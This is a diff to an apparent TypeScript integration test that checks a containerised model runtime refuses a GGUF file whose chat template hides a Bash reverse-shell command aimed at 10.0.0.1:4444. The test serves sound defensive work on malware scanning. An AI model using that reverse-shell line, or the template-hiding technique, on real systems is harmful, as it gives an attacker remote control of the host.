@@ -14,7 +14,7 @@ import { addModel } from '../../../src/core/govern/admission';
 import { initRegistry, setAlias } from '../../../src/core/govern/ops';
 import { RefusedError } from '../../../src/core/util/errors';
 import { readAudit } from '../../../src/core/audit/log';
-import { writeTinyLlama } from '../../fixtures/gguf/tiny-llama';
+import { CHATML_TEMPLATE, writeTinyLlama } from '../../fixtures/gguf/tiny-llama';
 import { makeRepo, type TestRepo } from '../registry/repo';
 import { requireDocker } from './docker-gate';
 
@@ -140,6 +140,34 @@ describe('deploy: the workspace policy and the networks (real Docker engine)', f
       const logs = ((await c.logs({ stdout: true, stderr: true })) as Buffer).toString('latin1');
       assert.equal(status.StatusCode, 1, logs);
       assert.match(logs, /refused to load \/models\/model\.gguf: policy rule max-file-size: .* above the limit of 500KB/);
+    } finally {
+      await c.remove({ force: true }).catch(() => undefined);
+    }
+  });
+
+  it('the runtime in the container runs the malware rules on load: a GGUF with a reverse shell in its chat template, mounted in place of the registered model (registration bypassed), is refused', async () => {
+    let [d] = await listDeployments({ docker, model: 'pgood' });
+    if (!d) {
+      await deployStaging({ root: repo.root, ref: 'pgood@1.0.0', log: () => undefined });
+      [d] = await listDeployments({ docker, model: 'pgood' });
+    }
+    // Structurally valid (the format reader passes it) and under the policy's size limit: only the rules refuse it.
+    const evil = join(repo.base, 'revshell.gguf');
+    await writeTinyLlama(evil, { name: 'policy-revshell', f16: true, chatTemplate: `${CHATML_TEMPLATE}{% if false %}{{ 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1' }}{% endif %}` });
+    const c = await docker.createContainer({
+      Image: d.image,
+      Cmd: ['--model', '/models/model.gguf', '--policy', '/policy/policy.yaml', '--host', '0.0.0.0', '--port', '8080', '--threads', '1'],
+      User: '10001:10001',
+      Env: ['HOME=/tmp', 'NODE_LLAMA_CPP_SKIP_DOWNLOAD=true'],
+      HostConfig: { NetworkMode: 'none', ReadonlyRootfs: true, Tmpfs: { '/tmp': 'rw,size=64m' }, Binds: [`${evil}:/models/model.gguf:ro`] },
+    } as never);
+    try {
+      await c.start();
+      const status = (await c.wait()) as { StatusCode: number };
+      const logs = ((await c.logs({ stdout: true, stderr: true })) as Buffer).toString('latin1');
+      assert.equal(status.StatusCode, 1, logs);
+      assert.match(logs, /refused to load \/models\/model\.gguf before any native code saw it: rule yara\/reverse_shell \(critical\)/);
+      assert.doesNotMatch(logs, /yara\/unavailable/, 'the engine and the default pack are in the image');
     } finally {
       await c.remove({ force: true }).catch(() => undefined);
     }
